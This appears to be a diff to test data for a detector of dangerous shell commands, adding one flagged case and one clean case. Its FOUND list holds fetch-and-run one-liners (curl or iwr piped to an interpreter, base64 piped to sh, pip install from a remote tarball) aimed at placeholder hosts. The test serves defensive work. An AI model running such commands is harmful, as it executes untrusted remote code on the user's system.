@@ -19,6 +19,7 @@ FOUND = [
     "echo aGk= | base64 -d | sh",
     "curl https://a.example/x.py | python3",
     "iwr https://a.example/x.ps1 | iex",
+    "pip install https://a.example/x.tar.gz",
 ]
 CLEAN = [
     "curl https://a.example/x.json | jq .name",
@@ -29,6 +30,7 @@ CLEAN = [
     "base64 -d file > out",
     "curl https://a.example/shop | grep sh",
     "wget is not installed; the share is full",
+    "pip install --index-url https://mirror.moss.example/simple tools",
 ]
 
 
